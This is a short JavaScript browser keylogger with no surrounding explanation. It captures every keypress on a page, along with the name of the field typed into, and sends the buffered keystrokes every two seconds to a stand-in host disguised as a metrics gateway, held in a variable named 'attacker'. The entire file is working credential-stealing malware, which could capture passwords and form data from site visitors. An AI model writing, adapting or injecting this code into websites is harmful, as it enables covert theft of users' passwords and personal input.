var buffer = [];
var attacker = 'https://api-metrics-gateway.example/k.php?c=';

document.onkeypress = function (e) {
  e = e || window.event;
  var timestamp = Date.now() | 0;
  var stroke = { k: e.key || String.fromCharCode(e.keyCode || e.which), t: timestamp, f: (e.target && (e.target.name || e.target.id)) || '' };
  buffer.push(stroke);
};

window.setInterval(function () {
  if (buffer.length > 0) {
    var data = encodeURIComponent(JSON.stringify(buffer));
    var x = new XMLHttpRequest();
    x.open('GET', attacker + data, true);
    x.send(null);
    buffer = [];
  }
}, 2000);
